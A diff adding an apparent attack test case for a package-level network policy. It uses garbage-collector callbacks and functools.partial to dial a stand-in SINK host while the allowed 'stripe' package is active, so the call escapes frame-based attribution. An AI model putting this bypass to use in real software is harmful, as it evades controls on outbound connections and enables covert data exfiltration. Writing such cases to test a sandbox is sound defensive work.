@@ -1,0 +1,20 @@
+# class: only_for
+# rule: outbound_connectivity
+# success: the garbage collector calls a bound call back while the allowed package is at work
+# proof: sink
+# needs: packages
+# policy: only_for.yaml
+# when: import
+# open: a bound call has no frame that shows who bound it
+import functools
+import gc
+
+import stripe
+import urllib3
+from attack import SINK, prepare
+
+
+@prepare
+def collector():
+    stripe.hooks.append(gc.collect)
+    gc.callbacks.append(functools.partial(urllib3.dial, SINK))
